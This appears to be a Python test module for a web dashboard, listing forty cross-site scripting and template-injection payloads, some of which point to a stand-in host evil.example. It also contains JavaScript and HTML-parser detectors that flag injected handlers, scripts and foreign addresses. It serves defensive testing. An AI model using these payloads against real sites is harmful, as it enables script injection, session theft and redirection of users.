"""Forty texts that would run a script or add an element where a page did not escape them.

Each calls `pwn` or a dialog, short enough for a key's name. `HOSTILE` is what a page then has
that none of ours has; `injected` reads the same off a page's text, without a browser.
"""

from html.parser import HTMLParser

PAYLOADS = (
    "<script>pwn(1)</script>",
    "</script><script>pwn(2)</script>",
    "<img src=x onerror=pwn(3)>",
    '"><img src=x onerror=pwn(4)>',
    "'><img src=x onerror=pwn(5)>",
    "<svg onload=pwn(6)>",
    "<svg/onload=pwn(7)//",
    '" onmouseover="pwn(8)" x="',
    "' onmouseover='pwn(9)' x='",
    '" autofocus onfocus="pwn(10)" x="',
    "</title><script>pwn(11)</script>",
    "</textarea><script>pwn(12)</script>",
    "</style><script>pwn(13)</script>",
    "--><script>pwn(14)</script><!--",
    "]]><script>pwn(15)</script>",
    "javascript:pwn(16)",
    "JaVaScRiPt:pwn(17)//",
    '<a href="javascript:pwn(18)">go</a>',
    "<iframe src=javascript:pwn(19)>",
    '<iframe srcdoc="<script>parent.pwn(20)</script>">',
    "<body onload=pwn(21)>",
    "<details open ontoggle=pwn(22)>",
    "<video><source onerror=pwn(23)>",
    "<input autofocus onfocus=pwn(24)>",
    "<math><mtext></mtext><script>pwn(25)</script>",
    "<object data=javascript:pwn(26)>",
    "<embed src=javascript:pwn(27)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button id=pwn>",
    "{{7*7}}{{''.__class__}}",
    "{% for x in ().__class__ %}{% endfor %}",
    "${pwn(34)}`-pwn(34)-`",
    "';pwn(35);//",
    '";pwn(36);//',
    '\\";pwn(37);//',
    "&lt;script&gt;pwn(38)&lt;/script&gt;",
    "%3Cscript%3Epwn(39)%3C/script%3E",
    "<scr\u0130pt>alert(40)</scr\u0130pt><ScRiPt>alert(40)</sCrIpT>",
)

_TAGS = (
    "iframe", "object", "embed", "base", "math", "video", "source", "frame", "applet", "marquee",
)  # fmt: skip

WATCH = "window.pwned = []; window.pwn = (which) => window.pwned.push(which);"

HOSTILE = """
() => {
  const found = [...window.pwned].map((one) => `payload ${one} ran`);
  for (const one of document.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on")) found.push(`handler ${one.outerHTML.slice(0, 120)}`);
      if (/^\\s*(javascript|vbscript):/i.test(value) && ["href", "src", "action", "data",
          "formaction", "xlink:href"].includes(name)) found.push(`address ${value}`);
      if (["href", "src", "action"].includes(name) &&
          new URL(value, location.href).origin !== location.origin) found.push(`address ${value}`);
    }
    if (TAGS.includes(one.localName)) found.push(`element ${one.outerHTML.slice(0, 120)}`);
  }
  for (const one of document.scripts) {
    if (!one.src.startsWith(location.origin + "/dashboard/static/")) {
      found.push(`script ${one.outerHTML.slice(0, 120)}`);
    }
  }
  if (document.querySelector("meta[http-equiv], #pwn")) found.push("a foreign element");
  return found;
}
""".replace("TAGS", str(list(_TAGS)))


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        fields = dict(attrs)
        wrong = (
            tag in _TAGS
            or any(name.startswith("on") or name == "style" for name in fields)
            or (tag == "script" and not fields.get("nonce"))
            or (tag == "meta" and "http-equiv" in fields)
            or fields.get("id") == "pwn"
        )
        for name in ("href", "src", "action", "data", "formaction"):
            target = (fields.get(name) or "").strip().lower()
            wrong = wrong or target.startswith(("javascript:", "//", "http://evil"))
        if wrong:
            self.found.append(self.get_starttag_text() or tag)


def injected(text: str) -> list[str]:
    """The elements of a page that none of ours has."""
    reader = _Reader()
    reader.feed(text)
    reader.close()
    return reader.found
